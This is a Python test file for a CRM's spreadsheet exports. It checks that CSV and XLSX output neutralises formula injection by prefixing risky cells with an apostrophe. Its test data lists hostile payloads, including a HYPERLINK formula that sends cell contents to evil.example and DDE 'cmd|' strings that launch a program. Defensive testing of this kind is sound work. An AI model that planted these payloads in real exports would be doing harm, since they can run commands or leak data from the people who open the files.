"Exports made safe against spreadsheet formula injection, without a database."
import csv
import datetime as dt
import io
import unittest
from decimal import Decimal

from openpyxl import load_workbook

from kraya_crm.spreadsheet import csv_bytes, safe_cell, typed_text, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    '+91 98765 43210',
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
    ]


class SafeCellTestCase(unittest.TestCase):

    def test_text_a_spreadsheet_would_run_starts_with_an_apostrophe(self):
        for text in HOSTILE:
            with self.subTest(text=text):
                self.assertEqual(safe_cell(text), "'" + text)

    def test_plain_text_numbers_and_dates_are_kept_as_they_are(self):
        for value in ['Asha Patil', 'a=b', '', None, 42, -5,
                Decimal('-1500.50'), dt.date(2026, 4, 1), True]:
            with self.subTest(value=value):
                self.assertEqual(safe_cell(value), value)

    def test_typed_text_reads_back_what_safe_cell_wrote(self):
        for text in HOSTILE + ['Asha Patil', "'quoted'", "'", '']:
            with self.subTest(text=text):
                self.assertEqual(typed_text(safe_cell(text)), text)


class ExportFileTestCase(unittest.TestCase):

    def test_csv_has_a_bom_and_every_hostile_cell_inert(self):
        data = csv_bytes(['Name', 'Value'],
            [[text, Decimal('500000')] for text in HOSTILE])
        self.assertTrue(data.startswith('\ufeff'.encode()))
        rows = list(csv.reader(io.StringIO(data.decode('utf-8-sig'))))
        self.assertEqual(rows[0], ['Name', 'Value'])
        self.assertEqual([row[0] for row in rows[1:]],
            ["'" + text for text in HOSTILE])
        self.assertEqual({row[1] for row in rows[1:]}, {'500000'})

    def test_xlsx_holds_text_not_formulas_and_numbers_as_numbers(self):
        data = xlsx_bytes(['Name', 'Value'],
            [[text, Decimal('500000')] for text in HOSTILE], title="Leads")
        sheet = load_workbook(io.BytesIO(data))['Leads']
        rows = list(sheet.iter_rows(values_only=True))
        self.assertEqual(rows[0], ('Name', 'Value'))
        for row, text in zip(rows[1:], HOSTILE):
            with self.subTest(text=text):
                self.assertEqual(row[0], "'" + text)
                self.assertEqual(row[1], 500000)
        for row in sheet.iter_rows(min_row=2):
            self.assertEqual(row[0].data_type, 's')
